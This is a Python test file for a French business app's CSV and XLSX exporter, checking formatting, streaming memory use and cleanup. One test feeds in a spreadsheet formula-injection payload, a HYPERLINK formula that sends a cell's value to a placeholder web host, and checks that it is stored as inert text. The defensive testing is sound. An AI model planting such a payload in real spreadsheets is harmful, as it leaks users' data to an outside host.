"""CSV and XLSX, read again by other tools than those that write them."""

import csv
import io
import tempfile
import tracemalloc
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from erpps_app.adapters.tables import BATCH, FORMULA, Cell, FileFormat
from erpps_app.domain.periods import PARIS

COLUMNS = ("Nom", "Reçue le", "Délai")
NO_ZONE = datetime(2026, 11, 25, 14, 32, tzinfo=PARIS).replace(tzinfo=None)
ROWS = (
    ("ÉLÉONORE d’Œuvre ; « née » Noël", datetime(2026, 11, 25, 14, 32, tzinfo=PARIS), 47.2),
    ('Deux\nlignes, et "guillemets"', date(2026, 3, 1), 12),
    ("", None, None),
)


def written(file_format: FileFormat, rows: Iterator[tuple[Cell, ...]]) -> bytes:
    return b"".join(file_format.write("Essai", COLUMNS, rows))


def reread(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def opened(data: bytes) -> list[list[object]]:
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()


def test_a_csv_file_is_what_french_spreadsheets_open():
    data = written(FileFormat.CSV, iter(ROWS))

    assert data.startswith(b"\xef\xbb\xbfNom;Re")
    assert data.endswith(b"\r\n")
    assert reread(data) == [
        list(COLUMNS),
        ["ÉLÉONORE d’Œuvre ; « née » Noël", "25/11/2026 14:32", "47,2"],
        ['Deux\nlignes, et "guillemets"', "01/03/2026", "12"],
        ["", "", ""],
    ]


def test_a_workbook_says_the_same_with_numbers_and_dates_as_such():
    assert opened(written(FileFormat.XLSX, iter(ROWS))) == [
        list(COLUMNS),
        ["ÉLÉONORE d’Œuvre ; « née » Noël", NO_ZONE, 47.2],
        ['Deux\nlignes, et "guillemets"', date(2026, 3, 1), 12],
        ["", "", ""],
    ]


@pytest.mark.parametrize("sign", FORMULA)
@pytest.mark.parametrize("before", ["", " ", "\u00a0"])
def test_what_begins_like_a_formula_is_text(sign: str, before: str):
    typed = f'{before}{sign}HYPERLINK("http://exemple.fr/?"&A1;"Cliquez")'
    (_, (shown, *_)) = reread(written(FileFormat.CSV, iter([(typed, None, None)])))
    (_, (kept, *_)) = opened(written(FileFormat.XLSX, iter([(typed, None, None)])))

    assert shown == f"'{typed}"
    assert kept == typed  # as text: a workbook tells text from formulas


def test_a_negative_number_stays_a_number():
    assert reread(written(FileFormat.CSV, iter([("x", None, -1.5)])))[1] == ["x", "", "-1,5"]


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=60))
def test_any_text_comes_back(typed: str):
    (_, (shown, *_)) = reread(written(FileFormat.CSV, iter([(typed, None, None)])))

    assert shown.removeprefix("'") == typed.removeprefix("'")


@pytest.mark.parametrize("file_format", FileFormat)
def test_memory_stays_flat_whatever_the_number_of_rows(file_format: FileFormat):
    def rows(many: int) -> Iterator[tuple[Cell, ...]]:
        for n in range(many):
            yield f"Personne n° {n}", datetime(2026, 1, 1, tzinfo=PARIS), n / 7

    def peak(many: int) -> int:
        tracemalloc.start()
        for _ in file_format.write("Essai", COLUMNS, rows(many)):
            pass
        _, highest = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return highest

    peak(BATCH)  # what is imported and cached once
    assert peak(20 * BATCH) < 1.5 * peak(2 * BATCH) + 200_000


@pytest.mark.parametrize("file_format", FileFormat)
def test_whoever_stops_reading_stops_the_rows_and_leaves_nothing_behind(
    file_format: FileFormat, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    asked = 0

    def rows() -> Iterator[tuple[Cell, ...]]:
        nonlocal asked
        for n in range(100 * BATCH):
            asked = n
            yield "x", None, n

    pieces = file_format.write("Essai", COLUMNS, rows())
    next(pieces)
    next(pieces)
    pieces.close()

    assert asked <= 2 * BATCH
    assert list(tmp_path.iterdir()) == []
